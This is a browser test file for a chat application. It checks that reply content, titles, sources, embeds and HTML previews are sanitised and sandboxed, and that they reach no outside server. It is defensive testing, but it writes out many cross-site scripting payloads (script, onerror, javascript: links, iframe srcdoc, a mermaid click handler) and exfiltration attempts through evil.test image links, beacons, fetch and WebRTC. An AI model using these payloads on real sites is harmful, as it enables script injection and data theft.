import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { describe, expect, it, onTestFinished } from 'vitest'
import { startSite } from '../peers/site.ts'
import { goTo, hasBrowser } from './browser.ts'
import { chatDesk, patient, replied, replies, say, shown } from './chat-desk.ts'

const { app, provider, person, sitDown } = await chatDesk()

interface Told {
  title?: string
  question?: string
  reply: Record<string, unknown>
}

const uuid = () => crypto.randomUUID()

const chatOf = ({ title = 'A chat', question = 'Well?', reply }: Told) => {
  const [userId, replyId] = [uuid(), uuid()]
  const messages = {
    [userId]: { id: userId, role: 'user', content: question, parentId: null, childrenIds: [replyId], timestamp: 1 },
    [replyId]: {
      id: replyId,
      role: 'assistant',
      content: '',
      parentId: userId,
      childrenIds: [],
      timestamp: 2,
      model: 'swift',
      modelName: 'swift',
      done: true,
      ...reply,
    },
  }
  return { title, models: ['swift'], messages: Object.values(messages), history: { currentId: replyId, messages } }
}

const stored = async (chat: unknown): Promise<string> => {
  const { status, body, text } = await person.post('/api/v1/chats/new', { chat })
  if (status >= 300) throw new Error(text)
  return body.id
}

const opened = async (told: Told) => {
  const chatId = await stored(chatOf(told))
  return { ...(await sitDown(`/chat/${chatId}`)), chatId }
}

/** Each would set this, were it ever run. */
const boom = 'window.pwned=1'
const attacks = [
  `<script>${boom}</script>`,
  `<img src=x onerror="${boom}">`,
  `<svg onload="${boom}"><a xlink:href="javascript:${boom}"><text y="20">svg</text></a></svg>`,
  `<iframe srcdoc="<script>parent.${boom}</script>"></iframe>`,
  `[a link](javascript:${boom}) and [another](data:text/html,<script>${boom}</script>)`,
  `<a href="javascript:${boom}">raw link</a> <form action="javascript:${boom}"><button>go</button></form>`,
  `![picture](https://evil.test/leak.png?words) ![two](javascript:${boom})`,
  `<style>* { display: none }</style><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">`,
  '```mermaid\nflowchart LR\n  A["<img src=x onerror=window.pwned=1>"] --> B\n  click B "javascript:window.pwned=1"\n```',
  '$$\\href{javascript:window.pwned=1}{x}$$ and $$\\htmlData{a=b}{y}$$',
].join('\n\n')

describe.runIf(hasBrowser)('what a reply may bring with it', () => {
  it('A30: runs nothing that content, title, name, question, citation, status or notification say, and fetches nothing from elsewhere', async () => {
    const foreign: string[] = []
    const markup = `<img src=x onerror="${boom}">`
    const chat = chatOf({
      title: markup,
      question: attacks,
      reply: {
        content: attacks,
        modelName: `<b onclick="${boom}">bold</b>`,
        sources: [{ source: { name: markup, url: `javascript:${boom}` }, document: [markup], metadata: [{}] }],
        statusHistory: [{ description: markup, done: true }],
        files: [{ name: markup, type: 'image', url: `javascript:${boom}` }],
        code_executions: [{ id: '1', name: markup, code: markup, result: { output: markup } }],
      },
    })
    const chatId = await stored(chat)
    const { page } = await sitDown()
    page.on('request', (request) => {
      if (/^https?:/.test(request.url()) && new URL(request.url()).origin !== app.url) foreign.push(request.url())
    })
    await goTo(page, `/chat/${chatId}`)
    await replied(page)
    await page.getByRole('img', { name: 'Diagram' }).waitFor()
    for (const link of await replies(page).getByRole('link').all()) {
      const [href, rel] = await Promise.all([link.getAttribute('href'), link.getAttribute('rel')])
      expect(href).toMatch(/^https:\/\//)
      expect(rel).toContain('noopener')
    }
    expect(
      await replies(page).locator('script, style, base, meta, form, iframe, svg a, [onerror], [onload]').count(),
    ).toBe(0)
    await person.post(`/api/v1/chats/${chatId}/messages/${chat.history.currentId}/event`, {
      type: 'notification',
      data: { type: 'error', content: `Look: ${markup}` },
    })
    await page.getByText('Look: <img').waitFor()
    await page.getByRole('list', { name: 'Sources' }).getByRole('button').click()
    await page.getByRole('dialog').getByText('<img').first().waitFor()
    expect(await page.getByRole('dialog').getByRole('link').count()).toBe(0)
    await page.keyboard.press('Escape')
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toContain('<img src=x')
    expect(foreign).toEqual([])
  })

  it('keeps what is embedded out of reach of the page', async () => {
    const { page } = await opened({
      reply: { content: 'See:', embeds: [`<p>Inside</p><script>parent.${boom}</script>`] },
    })
    const frame = page.locator('iframe')
    await frame.waitFor()
    const sandbox = (await frame.getAttribute('sandbox')) ?? ''
    expect(sandbox).toContain('allow-scripts')
    expect(sandbox).not.toContain('allow-same-origin')
    await page.frameLocator('iframe').getByText('Inside').waitFor()
    // As tall as its line of text.
    await expect.poll(async () => (await frame.boundingBox())?.height, patient).toBeLessThan(80)
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
  })

  it('shows HTML and SVG beside the conversation, in a frame that reaches neither the page nor the network', async () => {
    const code = `<h1>A page</h1><script>
      const tell = (text) => document.documentElement.append(Object.assign(document.createElement('p'), { textContent: text }))
      try { parent.document.title; tell('reached') } catch { tell('kept out') }
      fetch('${app.url}/health').then(() => tell('fetched'), () => tell('offline'))
      try { localStorage.length; tell('stored') } catch { tell('no storage') }
    </script>`
    const { page, inspect } = await opened({
      reply: {
        content: `Here:\n\n\`\`\`html\n${code}\n\`\`\`\n\n\`\`\`svg\n<svg viewBox="0 0 9 9"><title>Dot</title><circle r="4"/></svg>\n\`\`\``,
      },
    })
    const previews = page.getByRole('button', { name: 'Preview', exact: true })
    await previews.first().click()
    const panel = page.getByRole('complementary', { name: 'Preview' })
    const frame = page.frameLocator('iframe[title="Preview of the code"]').frameLocator('iframe')
    await frame.getByText('kept out').waitFor()
    await frame.getByText('offline').waitFor()
    await frame.getByText('no storage').waitFor()
    expect(await panel.locator('iframe').getAttribute('sandbox')).not.toContain('allow-same-origin')
    await inspect('chat-preview')
    await panel.getByRole('button', { name: 'Close preview' }).press('Escape')
    await panel.waitFor({ state: 'detached' })
    expect(await previews.first().evaluate((button) => button === document.activeElement)).toBe(true)
    await previews.last().click()
    await frame.locator('circle').waitFor()
  })

  it('refuses a preview every way to another server: going there, sending somebody there, and WebRTC', async () => {
    const elsewhere = await startSite((_request, response) => void response.end(), '127.0.0.2')
    const stun = createSocket('udp4').bind(0, '127.0.0.1')
    await once(stun, 'listening')
    let packets = 0
    stun.on('message', () => {
      packets += 1
    })
    onTestFinished(async () => {
      stun.close()
      await elsewhere.close()
    })
    const url = elsewhere.origin
    const call = `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun.address().port}' }] })
      peer.createDataChannel('words'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`
    const inFrame = JSON.stringify(`<script>${call}</script>`).replaceAll('</', '<\\/')
    const tell =
      "const tell = (text) => document.documentElement.append(Object.assign(document.createElement('p'), { textContent: text }))"
    // The frame's last words, or that it was refused as a whole.
    const attempts: [code: string, end: string | 'refused'][] = [
      [`<script>location = '${url}/location'</script>`, 'refused'],
      [`<meta http-equiv="refresh" content="0;url=${url}/meta">`, 'refused'],
      [`<a href="${url}/link">x</a><script>document.querySelector('a').click()</script>`, 'refused'],
      [`<iframe src="${url}/nested"></iframe>`, 'refused'],
      [`<script>${tell}; tell('window: ' + open('${url}/window'))</script>`, 'window: null'],
      [`<form action="${url}/form"></form><script>${tell}; document.forms[0].submit(); tell('sent')</script>`, 'sent'],
      [
        `<a href="${url}/file" download>x</a><a href="${url}/tab" target="_blank" ping="${url}/ping">x</a>
        <script>${tell}; for (const link of document.links) link.target === '' || link.click(); tell('clicked')</script>`,
        'clicked',
      ],
      [
        `<script>${tell}; try { top.location = '${url}/top' } catch {} try { parent.location = '${url}/parent' } catch {} tell('stayed')</script>`,
        'stayed',
      ],
      [
        `<img src="${url}/img"><link rel="stylesheet" href="${url}/css"><script>${tell}
        navigator.sendBeacon('${url}/beacon'); fetch('${url}/fetch', { mode: 'no-cors' }).catch(() => tell('not sent'))</script>`,
        'not sent',
      ],
      [`<script>${tell}; try { ${call} } catch { tell('no calls') }</script>`, 'no calls'],
      [
        `<iframe srcdoc="<script>${call}</script>"></iframe><script>${tell}
        const name = 'src' + 'doc'
        const frames = [0, 1, 2].map(() => document.createElement('iframe'))
        frames[0][name] = ${inFrame}
        frames[1].setAttribute(name, ${inFrame})
        const holder = document.createElement('p')
        holder.setAttribute(name, ${inFrame})
        frames[2].setAttributeNode(holder.removeAttributeNode(holder.attributes[0]))
        document.documentElement.append(...frames)
        document.documentElement.insertAdjacentHTML('beforeend', '<iframe ' + name + '="<p>inside</p>"></iframe>')
        setTimeout(() => tell('written: ' + document.querySelector('iframe:last-of-type').hasAttribute(name)))</script>`,
        'written: false',
      ],
    ]
    const { page } = await opened({
      reply: { content: attempts.map(([code]) => `\`\`\`html\n${code}\n\`\`\``).join('\n\n') },
    })
    const previews = page.getByRole('button', { name: 'Preview', exact: true })
    const frame = page.frameLocator('iframe[title="Preview of the code"]').frameLocator('iframe')
    for (const [index, [code, end]] of attempts.entries()) {
      await previews.nth(index).click()
      const isRefused = () => page.frames().some((it) => it.url().startsWith('chrome-error:'))
      if (end === 'refused') await expect.poll(isRefused, { ...patient, message: code }).toBe(true)
      else await frame.getByText(end, { exact: true }).waitFor()
      await page.getByRole('button', { name: 'Close preview' }).click()
    }
    expect(elsewhere.requests.map(({ path }) => path)).toEqual([])
    expect(packets).toBe(0)
    expect(page.context().pages()).toHaveLength(1)
  })

  it('shows in a shared chat where an embedded page is from, and loads nothing from there before it is asked to', async () => {
    const elsewhere = await startSite((_request, response) => {
      response.setHeader('content-type', 'text/html')
      response.end('<p>From elsewhere</p>')
    }, '127.0.0.2')
    onTestFinished(() => elsewhere.close())
    const widget = `<p>A widget</p><img src="${elsewhere.origin}/pixel"><script>location = '${elsewhere.origin}/went'</script>`
    const pixel = `<p>A picture</p><img src="${elsewhere.origin}/picture">`
    const chatId = await stored(
      chatOf({ reply: { content: 'See:', embeds: [`${elsewhere.origin}/page`, pixel, widget] } }),
    )
    const { body: share } = await person.post(`/api/v1/chats/${chatId}/share`)
    const { page, inspect } = await sitDown()
    await goTo(page, `/shared/${share.share_id}`)
    await page.getByText(`${elsewhere.origin}/page`, { exact: true }).waitFor()
    const frames = page.locator('figure iframe')
    await frames.nth(0).contentFrame().frameLocator('iframe').getByText('A picture').waitFor()
    await expect.poll(() => page.frames().some((it) => it.url().startsWith('chrome-error:')), patient).toBe(true)
    await expect.poll(async () => (await frames.nth(0).boundingBox())?.height, patient).toBeLessThan(100)
    await inspect('chat-shared-embeds')
    expect(elsewhere.requests).toEqual([])

    await page.getByRole('button', { name: 'Load page' }).click()
    await frames.nth(0).contentFrame().getByText('From elsewhere').waitFor()
    expect(elsewhere.requests.map(({ path }) => path)).toEqual(['/page'])
    await page.getByRole('button', { name: 'Allow requests' }).first().click()
    await expect.poll(() => elsewhere.requests.map(({ path }) => path), patient).toEqual(['/page', '/picture'])
  })

  it('shows what a tool says about its work: in motion until it is done', async () => {
    const { page, chatId } = await opened({ reply: { content: '', done: true } })
    const chat = await person.get(`/api/v1/chats/${chatId}`)
    const messageId = chat.body.chat.history.currentId
    const emit = (data: unknown) =>
      person.post(`/api/v1/chats/${chatId}/messages/${messageId}/event`, { type: 'status', data })
    await emit({ description: 'Reading the handbook', done: false })
    await shown(page, 'Reading the handbook').waitFor()
    expect(await shown(page, 'Reading the handbook').getAttribute('class')).toContain('shimmer')
    await emit({ description: 'Read the handbook', done: true })
    await shown(page, 'Read the handbook').waitFor()
    expect(await shown(page, 'Read the handbook').getAttribute('class')).not.toContain('shimmer')
    await person.post(`/api/v1/chats/${chatId}/messages/${messageId}/event`, {
      type: 'notification',
      data: { type: 'success', content: 'The handbook is open.' },
    })
    await page.getByText('The handbook is open.').waitFor()
  })

  it('stays light with a thousand messages, and follows the end only for who is there', async () => {
    const ids = Array.from({ length: 1000 }, uuid)
    const messages = ids.map((id, index) => ({
      id,
      ...(index % 2 === 0 ? { role: 'user' } : { role: 'assistant', model: 'swift', done: true }),
      content: index % 2 === 0 ? `Question ${index}` : `Answer ${index}. ${'So it goes on. '.repeat(index % 40)}`,
      parentId: ids[index - 1] ?? null,
      childrenIds: ids.slice(index + 1, index + 2),
      timestamp: index,
    }))
    const history = {
      currentId: ids.at(-1),
      messages: Object.fromEntries(messages.map((message) => [message.id, message])),
    }
    const chatId = await stored({ title: 'Long', models: ['swift'], messages, history })
    const { page } = await sitDown(`/chat/${chatId}`)
    await shown(page, 'Question 998').waitFor()
    expect(await page.getByRole('article').count()).toBeLessThan(60)

    const thread = page.getByRole('region', { name: 'Conversation' })
    // Earlier messages are loaded on the way up.
    const goUp = async () => {
      await thread.evaluate((element) => element.scrollTo({ top: 0 }))
      return shown(page, 'Question 0').count()
    }
    await expect.poll(goUp, { ...patient, interval: 300 }).toBe(1)
    expect(await page.getByRole('article').count()).toBeLessThan(60)
    const top = await thread.evaluate((element) => element.scrollTop)
    await person.post(`/api/v1/chats/${chatId}`, {
      chat: {
        history: {
          currentId: ids.at(-1),
          messages: { [String(ids.at(-1))]: { content: 'It grew. '.repeat(400) } },
        },
      },
    })
    await page.getByRole('button', { name: 'Jump to latest' }).waitFor()
    expect(await thread.evaluate((element) => element.scrollTop)).toBe(top)
    await page.getByRole('button', { name: 'Jump to latest' }).click()
    await shown(page, 'Question 998').waitFor()
    provider.script({ text: 'And the last word.' })
    await say(page, 'One more')
    await shown(page, 'And the last word.').waitFor()
    await expect
      .poll(() => thread.evaluate((it) => it.scrollHeight - it.scrollTop - it.clientHeight), patient)
      .toBeLessThan(80)
  })

  it('numbers its sources, shows the passage behind a number, and never the source of a formula', async () => {
    const { page, inspect } = await opened({
      reply: {
        content: 'A sheet of A4 has sides in the ratio of $1 : \\sqrt{2}$ [1], as Lichtenberg saw [2]. Not [7].',
        sources: [
          {
            source: { name: 'ISO 216' },
            document: ['The ratio of the sides is the square root of two.'],
            metadata: [{}],
          },
          {
            source: { name: 'Letter to Beckmann, 1786', url: 'https://example.test/letter' },
            document: ['I once gave an exercise to a young Englishman…'],
            metadata: [{}],
          },
        ],
        files: [{ name: 'sizes.pdf', type: 'file', size: 20_480 }],
        followUps: ['What about B4?'],
      },
    })
    await page.getByRole('button', { name: 'Source 2: Letter to Beckmann, 1786' }).click()
    await page.getByText('I once gave an exercise').waitFor()
    await inspect('chat-sources')
    expect(await page.getByRole('link', { name: 'example.test' }).getAttribute('rel')).toContain('noopener')
    await page.keyboard.press('Escape')
    await shown(page, 'sizes.pdf').waitFor()
    expect(await page.getByRole('button', { name: /^Source/ }).count()).toBe(2)

    // Not even while the renderer loads. It never does: so this is the page's last test.
    await page.route(/\/markdown-[^/]*\.js$/, () => undefined)
    await page.reload({ waitUntil: 'commit' })
    await shown(page, 'in the ratio of …').waitFor()
    expect(await replies(page).textContent()).not.toContain('sqrt')
  })
})
